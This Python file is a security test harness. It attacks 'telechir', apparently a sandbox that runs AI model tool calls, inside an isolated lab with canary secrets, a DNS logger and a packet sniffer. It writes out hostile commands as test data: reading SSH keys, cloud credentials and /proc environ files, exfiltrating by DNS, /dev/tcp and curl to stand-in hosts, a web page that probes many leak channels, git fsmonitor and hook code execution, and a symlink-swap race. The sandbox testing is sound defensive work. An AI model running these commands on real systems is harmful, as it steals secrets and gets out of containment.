"""Attacks on the telechir binary in a lab that scripts/attack.sh sets up.

The lab is a network namespace whose only ways out are a DNS server and a network card that nobody
answers, both watched here, with a second local user and a home full of canaries. Each attack is a
function that returns what got through, or nothing. Prints one line per attack, `ATTACK<tab>RESULT`,
and exits with 1 if anything got through.
"""

import ctypes
import http.server
import json
import os
import pathlib
import secrets
import shutil
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time

BINARY = sys.argv[1]
# The interface on which packets that leave the lab arrive.
OUTSIDE = sys.argv[2]
DNS_ADDRESS = "192.0.2.53"
PAGE_ADDRESS = "192.0.2.80"
# Neither root nor in the range of users that sessions get.
SECOND_USER, FIRST_USER = 59_999, 59_998
SECONDS = 120
CANARY = "canary" + secrets.token_hex(8)
# Files of a home that a model must not see.
HOME_FILES = (".ssh/id_ed25519", ".aws/credentials", ".netrc", ".bash_history", ".config/gh/hosts.yml")

PERMISSIVE = """
[[shell]]
name = "anything in the sandbox"
shell = "sandboxed"
redirection = true
verdict = "sandbox"
reason = "The sandbox holds it."
"""


class Lab:
    """The folders, servers and sniffers of the lab."""

    def __init__(self, root):
        self.root = pathlib.Path(root)
        self.root.chmod(0o755)
        self.home = self.folder("home", 0o700)
        self.temporary = self.folder("tmp", 0o1777)
        for name in HOME_FILES:
            path = self.home / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(CANARY + "\n")
        self.before = ownership(self.home)
        self.policy = self.root / "policy.toml"
        self.policy.write_text(PERMISSIVE)
        self.names = []
        self.packets = []
        self.page = ""
        for serve in (self.answer_dns, self.sniff, self.serve_page):
            threading.Thread(target=serve, daemon=True).start()

    def folder(self, name, mode=0o755):
        path = self.root / name
        path.mkdir()
        path.chmod(mode)
        return path

    def workspace(self):
        return pathlib.Path(tempfile.mkdtemp(prefix="work-", dir=self.root))

    def answer_dns(self):
        """Logs every name that is asked for, and answers that it does not exist."""
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind((DNS_ADDRESS, 53))
        while True:
            query, peer = server.recvfrom(4096)
            self.names.append(bytes(query).lower())
            if len(query) >= 12:
                header = query[:2] + b"\x81\x83" + query[4:6] + b"\0\0\0\0\0\0"
                server.sendto(header + query[12:], peer)

    def sniff(self):
        """Keeps every packet that leaves the lab."""
        every_protocol = 3
        sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(every_protocol))
        sniffer.bind((OUTSIDE, 0))
        while True:
            self.packets.append(sniffer.recv(65535).lower())

    def serve_page(self):
        lab = self

        class Page(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = lab.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_arguments):
                pass

        http.server.ThreadingHTTPServer((PAGE_ADDRESS, 80), Page).serve_forever()

    def leaked(self, token):
        """Whether this token left the lab, by a name or in a packet."""
        token = token.lower().encode()
        if any(token in name for name in self.names):
            return "asked for as a DNS name"
        if any(token in packet for packet in self.packets):
            return "sent in a packet"
        return None

    def environment(self):
        return {
            "PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
            "HOME": str(self.home),
            "TMPDIR": str(self.temporary),
            "GITHUB_TOKEN": CANARY,
        }

    def telechir(self, *arguments, stdin="", user=None):
        as_user = user_command(user) if user else []
        ran = subprocess.run(
            [*as_user, BINARY, *map(str, arguments)], input=stdin, capture_output=True, text=True,
            env=self.environment(), timeout=SECONDS, cwd=self.root,
        )
        return ran

    def shell(self, *commands, flags=(), may_fail=False, user=None):
        """Runs commands in a shell of telechir; returns all output."""
        calls = [
            {"type": "tool_use", "id": f"c{number}", "name": "bash", "input": {"command": command}}
            for number, command in enumerate(commands)
        ]
        ran = self.execute(calls, "--shell", *flags, user=user)
        if ran.returncode and not may_fail:
            raise RuntimeError(f"telechir exited with {ran.returncode}: {ran.stderr.strip()}")
        return ran.stdout + ran.stderr

    def execute(self, calls, *flags, user=None):
        response = {"type": "message", "role": "assistant", "stop_reason": "tool_use", "content": calls}
        return self.telechir(
            "exec", "--dialect", "anthropic-messages", "--policy", self.policy, *flags,
            stdin=json.dumps(response), user=user,
        )

    def check(self):
        """Fails unless the lab sees what these attacks would do."""
        token = "control" + secrets.token_hex(8)
        planted = self.temporary / f"telechir-{token}"
        planted.write_text(token)
        planted.chmod(0o644)
        found = second_user(READ_ALL, token, self.temporary)
        planted.unlink()
        if "read" not in found:
            raise RuntimeError("the second user does not find a file that anybody can read")
        try:
            socket.getaddrinfo(f"{token}.lab.test", 80)
        except OSError:
            pass
        if self.leaked(token) != "asked for as a DNS name":
            raise RuntimeError("the DNS server does not see a name that is asked for")
        token += "packet"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(token.encode(), ("198.51.100.7", 9))
        until = time.monotonic() + 5
        while self.leaked(token) is None:
            if time.monotonic() > until:
                raise RuntimeError("the sniffer does not see a packet that leaves the lab")
            time.sleep(0.01)


def user_command(user):
    """Runs a program as another local user."""
    return ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", "--no-new-privs"]


def ownership(folder):
    """Owner, mode and links of everything below a folder."""
    found = {}
    for path in sorted(folder.rglob("*")):
        entry = path.lstat()
        found[str(path)] = (entry.st_uid, entry.st_gid, entry.st_mode, entry.st_nlink)
    return found


def second_user(code, *arguments):
    """Runs Python code as another local user; returns its output."""
    ran = subprocess.run(
        [*user_command(SECOND_USER), sys.executable, "-c", code, *map(str, arguments)],
        capture_output=True, text=True, timeout=SECONDS, cwd="/",
    )
    if ran.returncode:
        raise RuntimeError(f"the second user's program failed: {ran.stderr.strip()}")
    return ran.stdout


READ_ALL = """
import os, pathlib, socket, stat, sys
token, folders = sys.argv[1].encode(), sys.argv[2:]
def look(path):
    try:
        entry = os.lstat(path)
        if stat.S_ISREG(entry.st_mode):
            with open(path, 'rb') as file:
                if token in file.read(1 << 24): print('read', path)
        elif stat.S_ISFIFO(entry.st_mode):
            os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK)); print('opened', path)
        elif stat.S_ISSOCK(entry.st_mode) and 'X11-unix' not in path:
            with socket.socket(socket.AF_UNIX) as client: client.connect(path); print('connected', path)
    except OSError:
        pass
for folder in folders:
    for at, _, names in os.walk(folder):
        if 'telechir' in at or folder not in ('/tmp', '/dev/shm', '/run', '/var/tmp'):
            for name in names: look(os.path.join(at, name))
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('cmdline', 'environ'):
        try:
            text = pathlib.Path('/proc', pid, name).read_bytes()
            if token in text and str(os.getpid()) != pid: print('read', f'/proc/{pid}/{name}')
        except OSError:
            pass
"""


def a_second_user_reads_a_session(lab):
    """Every file, pipe and socket of root's running session is closed to other local users."""
    return read_by_second_user(lab, None)


def a_second_user_reads_an_ordinary_session(lab):
    """The same for the session of an ordinary user."""
    for path in (lab.home, *lab.home.rglob("*")):
        os.chown(path, FIRST_USER, FIRST_USER)
    try:
        return read_by_second_user(lab, FIRST_USER)
    finally:
        for path in (lab.home, *lab.home.rglob("*")):
            os.chown(path, 0, 0)


def read_by_second_user(lab, user):
    token = "spoken" + secrets.token_hex(8)
    places = lab.folder(f"of-{user}", 0o755)
    os.chown(places, user or 0, user or 0)
    workspace = places / "workspace"
    workspace.mkdir(mode=0o700)
    os.chown(workspace, user or 0, user or 0)
    record = places / "recording"
    flags = ["--session", "lab", "--record", record, "--workspace", workspace, "--editor"]
    try:
        lab.shell(f"echo {token} >made; echo {token}; sleep 600 & echo $!", flags=flags, user=user)
        folders = ["/tmp", "/dev/shm", "/run", "/var/tmp", lab.temporary, record]
        found = second_user(READ_ALL, token, *folders)
    finally:
        closed = lab.telechir("sessions", "close", "lab", user=user)
    if closed.returncode:
        raise RuntimeError(f"the session did not run: {closed.stderr.strip()}")
    return found.strip().replace("\n", ", ") or None


def a_socket_in_the_workspace_is_reached(lab):
    """A socket of a program outside, such as docker.sock, is not reachable from the workspace."""
    workspace = lab.workspace()
    reached = []
    for name in ("docker.sock", "deep/er/agent.sock"):
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        path.chmod(0o777)
        server.listen()
        server.settimeout(0.5)
        connect = (
            "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) or die; "
            f'connect(S, sockaddr_un("{name}")) or die "refused: $!"; print "connected"\''
        )
        lab.shell(connect, flags=["--workspace", workspace], may_fail=True)
        try:
            server.accept()
            reached.append(name)
        except TimeoutError:
            pass
        server.close()
    return ", ".join(reached) or None


def exchange(one, other):
    """Swaps two names in one step: renameat2 with RENAME_EXCHANGE."""
    at_cwd, flag_exchange = -100, 2
    number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(number, at_cwd, os.fsencode(one), at_cwd, os.fsencode(other), flag_exchange)


def a_swapped_folder_changes_owners_outside(lab):
    """Taking over the workspace as root never follows a folder that becomes a link."""
    outside = lab.folder("outside")
    for number in range(40):
        (outside / f"file-{number}").write_text("own\n")
    before = ownership(outside)
    workspace = lab.workspace()
    for number in range(300):
        (workspace / f"filler-{number}").mkdir()
    trap, link = workspace / "trap", workspace / "link"
    shutil.copytree(outside, trap)
    link.symlink_to(outside)
    done = threading.Event()

    def swap():
        while not done.is_set():
            exchange(trap, link)

    threading.Thread(target=swap, daemon=True).start()
    try:
        for _ in range(6):
            lab.shell("true", flags=["--workspace", workspace], may_fail=True)
    finally:
        done.set()
    changed = {path for path, entry in ownership(outside).items() if before[path] != entry}
    return f"{len(changed)} files changed" if changed else None


def a_hard_link_changes_an_owner_outside(lab):
    """A hard link in the workspace does not give its other name away."""
    victim = lab.root / "victim"
    victim.write_text("own\n")
    workspace = lab.workspace()
    os.link(victim, workspace / "link")
    before = victim.stat().st_uid
    lab.shell("echo changed >link || true", flags=["--workspace", workspace], may_fail=True)
    if victim.stat().st_uid != before:
        return "the owner changed"
    return "the file changed" if victim.read_text() != "own\n" else None


def a_setuid_file_is_left(lab):
    """No command leaves a setuid or setgid file."""
    workspace = lab.workspace()
    make = (
        "cp /bin/true a; chmod u+s a; cp /bin/true b; chmod 2755 b; install -m 4755 /bin/true c; "
        "perl -e 'sysopen(F, q(d), 0x41, 04755); mkdir q(e), 02755; chmod 04711, q(a)'; true"
    )
    lab.shell(make, flags=["--workspace", workspace])
    left = [path.name for path in workspace.rglob("*")
            if path.lstat().st_mode & (stat.S_ISUID | stat.S_ISGID) and not path.is_dir()]
    return ", ".join(left) or None


def git_runs_code_afterwards(lab):
    """What a command leaves in the workspace does not run at the operator's next `git status`."""
    ran = []
    plans = {
        "hook": "git init -q . ; mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch {mark}\\n' "
                ">.git/hooks/post-index-change; chmod +x .git/hooks/post-index-change",
        "fsmonitor": "git init -q . ; git config core.fsmonitor 'touch {mark}; false'",
        "worktree": "mkdir -p x; git init -q x; git -C x config core.fsmonitor 'touch {mark}; false'; "
                    "cp -r x/.git .git 2>/dev/null; echo gitdir: $PWD/x/.git >.git",
        "bare": "git init -q --bare b; git --git-dir=b config core.fsmonitor 'touch {mark}; false'; "
                "git --git-dir=b config core.worktree ..; cp b/* . 2>/dev/null; cp -r b/objects b/refs .",
    }
    for name, plan in plans.items():
        workspace = lab.workspace()
        if name == "hook":
            subprocess.run(["git", "init", "-q", workspace], check=True, env=lab.environment())
        mark = lab.root / f"git-{name}"
        lab.shell(plan.replace("{mark}", str(mark)), flags=["--workspace", workspace], may_fail=True)
        for place in (workspace, workspace / "x", workspace / "b"):
            if place.is_dir():
                subprocess.run(
                    ["git", "-c", "safe.directory=*", "status"], cwd=place, env=lab.environment(),
                    capture_output=True, timeout=SECONDS,
                )
        if mark.exists():
            ran.append(name)
    return ", ".join(ran) or None


def the_home_is_read(lab):
    """Neither shell nor desktop sees the operator's home, other processes or their environment."""
    script = (
        f"cat {lab.home}/.ssh/* {lab.home}/.aws/* {lab.home}/.netrc ~/.ssh/* /root/.ssh/* "
        "/proc/[0-9]*/environ /proc/self/root/../*/.ssh/* 2>/dev/null; "
        f"ls -laR {lab.home} 2>/dev/null; env; true"
    )
    seen = lab.shell(script)
    return "a canary was printed" if CANARY in seen else None


def a_command_leaks_by_dns(lab):
    """A command without network tells nobody anything, not even by a name."""
    token = "sh" + secrets.token_hex(8)
    script = (
        f"getent hosts a.{token}.lab.test; getent ahosts {token}.local; "
        f"(echo {token} >/dev/udp/{DNS_ADDRESS}/53) 2>/dev/null; "
        f"(echo {token} >/dev/tcp/198.51.100.7/80) 2>/dev/null; "
        f"curl -s --max-time 5 http://{token}.lab.test/; "
        f"perl -MSocket -e 'socket(S, AF_INET6, SOCK_DGRAM, 0) and send(S, \"{token}\", 0, "
        "sockaddr_in6(53, inet_pton(AF_INET6, \"2001:db8::1\")))'; true"
    )
    lab.shell(script)
    return lab.leaked(token)


PAGE = """<!doctype html><title>waits</title><body><script>
const name = (what) => what + '.' + ['TOKEN1', 'TOKEN2'].join('') + '.lab.test';
const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender'])
  add('link', { rel, href: 'https://' + name(rel) });
add('img', { src: 'http://' + name('img') });
add('iframe', { src: 'http://' + name('frame') });
add('script', { src: 'https://' + name('script') });
add('a', { href: 'http://' + name('ping'), ping: 'http://' + name('ping') }).click?.();
fetch('http://' + name('fetch'), { mode: 'no-cors' }).catch(() => {});
navigator.sendBeacon('http://' + name('beacon'), 'x');
new EventSource('http://' + name('events'));
new WebSocket('ws://' + name('socket'));
try { new WebTransport('https://' + name('transport') + ':443/') } catch {}
for (const url of ['stun:' + name('stun'), 'turn:' + name('turn') + '?transport=udp',
                   'turns:' + name('turns') + ':443?transport=tcp', 'turn:198.51.100.9:3478']) {
  const peer = new RTCPeerConnection({ iceServers: [
    { urls: url, username: ['TOKEN1', 'TOKEN2'].join(''), credential: 'x' }], iceCandidatePoolSize: 2 });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  peer.setRemoteDescription?.({ type: 'offer', sdp: '' }).catch(() => {});
  for (const kind of ['.local', '.lab.test'])
    peer.addIceCandidate({ candidate: 'candidate:1 1 udp 1 ' + ['TOKEN1', 'TOKEN2'].join('') + kind +
      ' 9 typ host', sdpMid: '0' }).catch(() => {});
}
setTimeout(() => document.title = 'tried', 4000);
</script>"""


def a_page_leaks_by_dns(lab):
    """A page tells a denied host nothing: no name is asked for, no packet leaves.

    Without a default that denies, telechir itself resolves names to judge their addresses."""
    leaks = []
    default = "[[url]]\ndefault = 'deny'\nreason = 'Only the lab.'\n"
    rule = f"[[url]]\nhost = ['{PAGE_ADDRESS}']\nverdict = 'allow'\nreason = 'The lab.'\n"
    lab.policy.write_text(PERMISSIVE + default + rule)
    try:
        for headless in (["--headless"], []):
            first, second = "pg" + secrets.token_hex(4), secrets.token_hex(4)
            lab.page = PAGE.replace("TOKEN1", first).replace("TOKEN2", second)
            calls = [
                {"type": "tool_use", "id": f"c{number}", "name": "browser",
                 "input": {"action": "wait", "duration": 3}}
                for number in range(2)
            ]
            ran = lab.execute(calls, f"--browser=http://{PAGE_ADDRESS}/", *headless)
            if ran.returncode:
                raise RuntimeError(f"telechir exited with {ran.returncode}: {ran.stderr.strip()}")
            leak = lab.leaked(first + second)
            if leak:
                leaks.append(f"{leak} ({'without' if headless else 'with'} a window)")
    finally:
        lab.policy.write_text(PERMISSIVE)
    return ", ".join(leaks) or None


def something_is_left_after_a_kill(lab):
    """After `kill -9`, no process and no folder of the session is left within five seconds."""
    marker = f"{600 + secrets.randbelow(300)}.{os.getpid()}"
    call = {"type": "tool_use", "id": "c1", "name": "bash",
            "input": {"command": f"(setsid sleep {marker} &); touch started; sleep {marker}"}}
    response = {"type": "message", "role": "assistant", "stop_reason": "tool_use", "content": [call]}
    workspace = lab.workspace()
    running = subprocess.Popen(
        [BINARY, "exec", "--dialect", "anthropic-messages", "--shell", "--policy", lab.policy,
         "--workspace", workspace], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL, env=lab.environment(), text=True,
    )
    running.stdin.write(json.dumps(response))
    running.stdin.close()
    until = time.monotonic() + SECONDS
    while not (workspace / "started").exists():
        if time.monotonic() > until or running.poll() is not None:
            raise RuntimeError("the command did not start")
        time.sleep(0.05)
    running.kill()
    running.wait()

    def left():
        found = [path.name for path in lab.temporary.glob("telechir-*")]
        for path in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
            try:
                if marker.encode() in path.read_bytes():
                    found.append(path.parent.name)
            except OSError:
                pass
        return found

    until = time.monotonic() + 5
    while left() and time.monotonic() < until:
        time.sleep(0.1)
    return ", ".join(left()) or None


ATTACKS = (
    a_second_user_reads_a_session,
    a_second_user_reads_an_ordinary_session,
    a_socket_in_the_workspace_is_reached,
    a_swapped_folder_changes_owners_outside,
    a_hard_link_changes_an_owner_outside,
    a_setuid_file_is_left,
    git_runs_code_afterwards,
    the_home_is_read,
    a_command_leaks_by_dns,
    a_page_leaks_by_dns,
    something_is_left_after_a_kill,
)


def main():
    chosen = sys.argv[3:]
    failed = False
    with tempfile.TemporaryDirectory(prefix="attack-", dir="/var/tmp") as root:
        lab = Lab(root)
        lab.check()
        for attack in ATTACKS:
            name = attack.__name__
            if chosen and name not in chosen:
                continue
            try:
                through = attack(lab)
            except Exception as error:  # An attack that cannot be tried shows nothing.
                through = f"not tried: {error}"
            failed |= through is not None
            result = "held" if through is None else f"**{through}**"
            print(f"{name.replace('_', ' ')}\t{' '.join(result.split())}", flush=True)
        changed = ownership(lab.home) != lab.before
        changed |= any((lab.home / name).read_text() != CANARY + "\n" for name in HOME_FILES)
        failed |= changed
        print(f"the home is changed\t{'**changed**' if changed else 'held'}", flush=True)
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
